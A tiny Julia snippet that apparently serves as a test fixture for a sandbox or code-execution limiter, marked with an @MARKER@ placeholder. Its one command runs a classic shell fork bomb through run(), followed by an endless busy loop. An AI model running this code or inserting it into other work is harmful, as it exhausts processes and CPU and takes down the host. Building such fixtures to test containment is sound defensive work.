# @MARKER@: a shell fork bomb through run(), the realistic attack from Julia.
run(`sh -c "f() { f | f & }; f # @MARKER@"`)
while true end
